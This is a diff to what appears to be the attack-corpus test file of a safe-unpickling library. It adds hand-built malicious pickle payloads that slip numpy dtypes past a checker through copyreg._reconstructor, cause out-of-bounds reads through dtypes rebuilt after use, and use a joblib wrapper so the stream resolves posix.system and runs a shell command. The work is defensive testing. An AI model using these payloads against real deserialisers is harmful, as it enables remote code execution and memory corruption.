@@ -679,6 +679,87 @@ def _octal_itemsize_dtype(m: str) -> bytes:
     return _Asm(0).push(_dtype("V7777777", state)).stop().value()
 
 
+_TUPLE = _g("builtins", "tuple")
+
+
+def _hidden(cls: tuple[str, str], base: tuple[str, str], state: object) -> _Code:
+    """``copyreg._reconstructor(*T)`` where ``T = copyreg._reconstructor(tuple, tuple, (cls,
+    base, state))`` is the tuple ``(cls, base, state)`` made by a call (the issue's
+    ``builtins.tuple([...])`` spelling, with the call a literal tuple needs no list for): so
+    ``base.__new__(cls, state)`` with an argument tuple that a pass which only knows literal
+    calls cannot see into."""
+    return _Code(
+        lambda a: (
+            a.name("copyreg", "_reconstructor")
+            .call("copyreg", "_reconstructor", _TUPLE, _TUPLE, (_g(*cls), _g(*base), state))
+            .reduce()
+        )
+    )
+
+
+def _hidden_dtype_object_array(m: str) -> bytes:
+    """An object array of shape (200000,) with an empty item list, whose dtype ``O`` is made by
+    ``copyreg._reconstructor(*tuple([numpy.dtype, numpy.dtype, "O"]))``: a pass that only
+    recognises a literal ``numpy.dtype(...)`` call skips the object-array check, and numpy
+    reads 200,000 pointers that were never written."""
+    dtype = _hidden(("numpy", "dtype"), ("numpy", "dtype"), "O")
+    return _Asm(2).push(_ndarray(dtype, (200_000,), [])).stop().value()
+
+
+def _hidden_joblib_wrapper(m: str) -> bytes:
+    """joblib's NumpyArrayWrapper made by ``copyreg._reconstructor(*tuple([...]))``. joblib
+    treats it as an array header and reads the object array that follows with a fresh
+    unpickler (its own memo); a pass that does not recognise the wrapper keeps reading those
+    bytes as part of the outer stream, where ``BINGET 0, BINGET 1`` are ``numpy``, ``dtype``.
+    In joblib's fresh memo they are ``posix``, ``system``."""
+    a = _Asm(4).push("numpy").memoize().push("dtype").memoize().op(b"\x93").pop()
+    wrapper = _hidden(("joblib.numpy_pickle", "NumpyArrayWrapper"), ("builtins", "object"), None)
+    a.mark().push(wrapper)
+    dt = _dtype("O8", (3, "|", None, None, None, -1, -1, 63))
+    state = {
+        "shape": (1,),
+        "order": "C",
+        "dtype": dt,
+        "allow_mmap": False,
+    }
+    a.push(state).build()
+    # the nested pickle as joblib reads it; to the outer stream, more of the same tuple
+    a.push("posix").memoize().pop().push("system").memoize().pop()
+    a.binget(0).binget(1).op(b"\x93").push((_sh(m),)).reduce()
+    return a.op(b"t").stop().value()
+
+
+def _struct_v8(field: str, offset: int) -> tuple[object, ...]:
+    """The state of a structured ``V8`` dtype with one field ``a`` of ``field`` at ``offset``."""
+    dt = _dtype(field, (3, "|" if field == "u1" else _NATIVE, None, None, None, -1, -1, 0))
+    return (3, "|", None, ("a",), {"a": (dt, offset)}, 8, 1, 16)
+
+
+def _memo_dtype_rebuilt(m: str) -> bytes:
+    """A structured dtype with an honest state, then fetched again from the memo and given a
+    second BUILD: an 8-byte field at offset 2 of an 8-byte item. A pass that caches what it
+    checked the first time never looks at the second state."""
+    a = _Asm(2).call("numpy", "dtype", "V8", False, True).op(b"q", b"\x00")
+    a.push(_struct_v8("u1", 0)).build().pop()
+    return a.binget(0).push(_struct_v8("i8", 2)).build().stop().value()
+
+
+def _dtype_used_then_built(m: str) -> bytes:
+    """A ``V8`` dtype with no state is used for an array (a pass that caches the dtype it
+    denotes caches plain ``V8``), then given a BUILD that adds an 8-byte field at offset 2: the
+    array's one item now has a field running 2 bytes past it."""
+    a = _Asm(2).call("numpy", "dtype", "V8", False, True).op(b"q", b"\x00").pop()
+    array = _Code(
+        lambda x: (
+            x.call("numpy._core.multiarray", "_reconstruct", _g("numpy", "ndarray"), (0,), b"b")
+            .push((1, (1,), _Code(lambda y: y.binget(0)), False, b"\x00" * 8))
+            .build()
+        )
+    )
+    a.push(array).binget(0).push(_struct_v8("i8", 2)).build().pop()
+    return a.stop().value()
+
+
 def _memo_dag_shape(m: str, steps: int = 27) -> bytes:
     """``T0 = (1,)``, ``Tk = (Tk-1, Tk-1)`` through the memo, ``T27`` as an array's shape: a few
     hundred bytes that a fold without memoisation expands into 2**28 tuples."""
@@ -1710,6 +1791,48 @@ def attack_corpus() -> list[AttackCase]:
             "reader sees room for a field at offset 7,000,000, numpy receives 2,097,151",
             "ATTACKS.md: parser differentials inside the defender (text opcodes)",
             _octal_itemsize_dtype,
+            _M,
+            plain="none",
+            executes=False,
+        ),
+        case(
+            "numpy-dtype-hidden-behind-call",
+            "object ndarray state with shape (200000,) and no items whose dtype 'O' comes from "
+            "copyreg._reconstructor(*<tuple made by a call>): not recognised as a dtype, the "
+            "object-array check never ran (load_unsigned segfaulted; plain pickle does too)",
+            "ATTACKS.md: parser differentials inside the defender (values produced by calls)",
+            _hidden_dtype_object_array,
+            _M,
+            plain="none",
+            executes=False,
+        ),
+        case(
+            "joblib-wrapper-hidden-behind-call",
+            "joblib NumpyArrayWrapper made by copyreg._reconstructor(*<tuple made by a call>): "
+            "joblib reads the object array after it with a fresh memo, where BINGET 0/1 are "
+            "posix/system; a pass that misses the wrapper resolves numpy.dtype",
+            "ATTACKS.md: parser differentials inside the defender (joblib's fresh unpickler)",
+            _hidden_joblib_wrapper,
+            _M,
+            container="joblib",
+            plain="joblib",
+        ),
+        case(
+            "numpy-dtype-second-build-from-memo",
+            "a structured dtype built with an honest state, fetched again from the memo and "
+            "given a second BUILD with an 8-byte field at offset 2 of an 8-byte item",
+            "safeload issue 14 (item 9); ATTACKS.md: memory safety of allowed types",
+            _memo_dtype_rebuilt,
+            _M,
+            plain="none",
+            executes=False,
+        ),
+        case(
+            "numpy-dtype-built-after-use",
+            "a V8 dtype used for an array before its BUILD; the BUILD then gives the array's "
+            "items a field that runs past them",
+            "safeload issue 14 (item 9); ATTACKS.md: memory safety of allowed types",
+            _dtype_used_then_built,
             _M,
             plain="none",
             executes=False,
